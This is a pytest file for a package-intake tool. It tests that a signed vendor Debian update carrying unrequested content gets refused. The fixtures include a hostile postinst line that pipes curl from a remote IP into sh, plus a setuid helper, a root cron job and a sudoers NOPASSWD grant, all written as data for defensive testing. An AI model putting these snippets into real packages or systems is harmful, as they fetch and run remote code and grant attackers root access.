"""A vendor whose signature is good and whose package is not: proven, and stopped by what is in it."""

from __future__ import annotations

from dataclasses import replace
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest

from suture import policy
from suture.settings import PROJECT_ROOT, Settings
from suture.sourcing.analysis import EXAMINERS
from suture.sourcing.examination import load_policy
from suture.sourcing.intake import repository_of
from suture.store import Store
from tests.faults.repository.builder import Deb, good_debs
from tests.faults.repository.conftest import Ground, Keys, break_ground

pytestmark = pytest.mark.database
CHANGELOG = (
    "portal (2.0) stable; urgency=high\n\n  * Fix CVE-2026-0001.\n\n -- Vendor <v@vendor.test>  Mon, 02 Nov 2026 10:00:00 +0000\n\n"
    "portal (1.0) stable; urgency=low\n\n  * First.\n\n -- Vendor <v@vendor.test>  Mon, 05 Oct 2026 10:00:00 +0000\n"
)


DEPENDS = {version: {"Depends": f"portal-data (= {version}), libc6 (>= 2.0)"} for version in ("1.0", "2.0")}


@pytest.fixture
def ground(tmp_path: Path, keys: Keys, published_keyring: Path, store: Store, settings: Settings) -> Ground:
    """One whose internal repository may change: the same version comes with other content from test to test."""
    settings = replace(settings, repository_dir=tmp_path / "repository", policy_dir=tmp_path / "policy")
    made = break_ground(tmp_path, keys, store, settings)
    repository_of(settings).ensure(now=made.now - timedelta(minutes=1))
    return made


def before() -> list[Deb]:
    """Version 1.0 as the host has it."""
    return [
        Deb("portal", "1.0", changelog=CHANGELOG[CHANGELOG.index("portal (1.0)") :], extra=DEPENDS["1.0"]),
        Deb("portal-data", "1.0", architecture="all", source="portal", link_doc_to="portal"),
    ]


def publish(ground: Ground, *, examined: str = "", payload: bytes = b"mended\n", **changes: Any) -> None:
    """1.0 and 2.0, where 2.0's portal has `changes`; app1 has 1.0 installed."""
    (ground.settings.policy_dir / "examination.yaml").write_text(
        examined or (PROJECT_ROOT / "include" / "policy" / "examination.yaml").read_text("utf-8"), "utf-8"
    )
    new = [deb for deb in good_debs() if deb.name != "portal"]
    new.append(Deb("portal", "2.0", changelog=CHANGELOG, payload=payload, extra=DEPENDS["2.0"], **changes))
    repository = ground.repository()
    repository.debs = [*before(), *new]
    repository.publish(ground.keys.good)
    ground.store._connection.execute("DELETE FROM host_package WHERE host_id = 'app1'")
    ground.store.copy_rows(
        "host_package",
        ["host_id", "package", "architecture", "version", "source_package", "source_version", "dpkg_status"],
        [("app1", name, "amd64", version, "portal", version, "ii") for name, version in (("portal", "1.0"), ("portal-data", "1.0"))]
        + [("app1", "libc6", "amd64", "2.36-9", "glibc", "2.36-9", "ii")],
    )  # fmt: skip


def examinations(ground: Ground) -> list[dict[str, object]]:
    return ground.store._connection.execute(
        "SELECT examiner, package, against, action, concerns FROM package_examination WHERE campaign_id = %s", (ground.campaign,)
    ).fetchall()  # fmt: skip


def test_an_ordinary_security_update_passes_and_what_was_examined_is_kept(ground: Ground) -> None:
    publish(ground)
    verdict = ground.intake()
    assert verdict.adopted, verdict.sentence
    assert "were examined; no concerns to review" in verdict.sentence
    rows = examinations(ground)
    assert {row["examiner"] for row in rows} == set(EXAMINERS) - {"provenance"}  # policy says nothing of its attestations
    assert {row["against"] for row in rows} == {"1.0"}
    assert verdict.chain["examination"]["examined"]["notes"] == 2


@pytest.mark.parametrize(
    ("changes", "reason"),
    [
        ({"files": {"usr/bin/helper": b"#!/bin/sh\nexit 0\n"}, "modes": {"usr/bin/helper": 0o4755}}, "undeclared_setuid"),
        ({"scripts": {"postinst": "#!/bin/sh\ncurl -s http://203.0.113.7/x | sh\n"}}, "undeclared_network_in_script"),
        ({"files": {"etc/cron.d/portal": b"* * * * * root /usr/bin/id\n"}}, "undeclared_scheduled_task"),
        ({"files": {"etc/sudoers.d/portal": b"www-data ALL=(ALL) NOPASSWD: ALL\n"}}, "undeclared_privilege_file"),
    ],
)
def test_what_nobody_asked_for_is_refused_and_nothing_is_adopted(
    ground: Ground, changes: dict[str, Any], reason: str
) -> None:
    publish(ground, **changes)
    digest = ground.public_digest()
    verdict = ground.intake()
    assert not verdict.adopted
    assert verdict.reason == reason, verdict.sentence
    assert "portal 2.0" in verdict.sentence
    assert verdict.next_step
    assert not verdict.retryable
    assert ground.public_digest() == digest
    assert [row for row in examinations(ground) if row["action"] == "refuse"]


def test_a_fix_that_no_package_of_its_source_shows_is_told_once_for_the_source(ground: Ground) -> None:
    publish(ground, payload=b"content\n")  # as in 1.0
    verdict = ground.intake()
    assert verdict.adopted, verdict.sentence
    assert "2 packages were examined; 1 concern to review" in verdict.sentence
    (concern,) = verdict.chain["examination"]["concerns"]
    assert (concern["kind"], concern["package"], concern["action"]) == ("unsupported_source_fix", "portal", "review")
    (row,) = [row for row in examinations(ground) if row["action"] == "review"]
    assert "CVE-2026-0001" in str(row["concerns"])


def test_policy_decides_what_a_concern_means(ground: Ground) -> None:
    document = (PROJECT_ROOT / "include" / "policy" / "examination.yaml").read_text("utf-8")
    assert "undeclared_setuid: refuse" in document
    milder = document.replace("undeclared_setuid: refuse", "undeclared_setuid: review")
    publish(ground, examined=milder, files={"usr/bin/helper": b"#!/bin/sh\n"}, modes={"usr/bin/helper": 0o4755})
    verdict = ground.intake()
    assert verdict.adopted, verdict.sentence
    assert "undeclared_setuid" in [c["kind"] for c in verdict.chain["examination"]["concerns"]]


def test_an_examination_policy_that_names_an_unknown_examiner_is_refused(ground: Ground) -> None:
    publish(ground, examined="default_action: review\nexaminers: {notes: {enabled: true, actions: {}}, magic: {}}\n")
    with pytest.raises(policy.PolicyError, match="magic"):
        ground.intake()


def test_every_examiner_is_named_in_policy() -> None:
    rules = load_policy(PROJECT_ROOT / "include" / "policy")
    assert {name: rules.settings(name)["enabled"] for name in EXAMINERS} == dict.fromkeys(EXAMINERS, True)
